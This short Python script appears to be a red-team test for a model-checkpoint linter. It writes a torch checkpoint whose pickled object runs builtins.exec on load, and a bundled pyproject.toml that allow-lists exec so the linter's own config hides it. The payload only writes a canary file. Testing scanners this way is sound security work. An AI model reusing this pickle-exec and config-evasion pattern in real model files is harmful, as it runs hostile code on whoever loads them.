"""A downloaded model folder that ships its own pyproject.toml: `ckpt lint` run from inside the
folder (cd model && ckpt lint .) takes [tool.ckpt.lint] from it, so the file's author can allow
the globals it uses (or ignore rules). Payload: builtins.exec writes a canary file."""
import os
import sys

import torch

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/config"
os.makedirs("model_repo", exist_ok=True)
class Payload:
    def __reduce__(self):
        return (exec, (f"open({canary!r}, 'w').write('ran')",))
torch.save({"weight": torch.zeros(2), "x": Payload()}, "model_repo/model.pt")
open("model_repo/pyproject.toml", "w").write(
    '[tool.ckpt.lint]\nallowed-globals = ["builtins.exec"]\n')
print("wrote model_repo/")
